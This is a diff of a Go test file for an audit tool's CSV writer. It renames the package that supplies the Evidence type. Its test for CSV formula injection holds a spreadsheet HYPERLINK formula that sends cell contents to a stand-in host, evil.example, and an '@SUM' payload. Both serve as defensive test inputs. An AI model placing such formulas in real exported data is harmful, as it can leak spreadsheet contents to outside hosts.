@@ -8,7 +8,7 @@ import (
 	"slices"
 	"testing"
 
-	"github.com/hvaudit/hvaudit/checks"
+	"github.com/hvaudit/hvaudit/checks/findings"
 )
 
 // readCSV parses the writer's output the way a consumer would.
@@ -117,7 +117,7 @@ func TestCSVFormulaInjection(t *testing.T) {
 	run.Findings = run.Findings[:1]
 	run.Findings[0].Object.Name = `=HYPERLINK("http://evil.example/?"&A1,"click")`
 	run.Findings[0].Message = "@SUM(1+1)"
-	run.Findings[0].Evidence = []checks.Evidence{{Field: "x", Observed: -1}}
+	run.Findings[0].Evidence = []findings.Evidence{{Field: "x", Observed: -1}}
 	run.Findings[0].Expected = "-1"
 	_, rows := readCSV(t, writeFormat(t, "csv", Options{}, run))
 	var row map[string]string
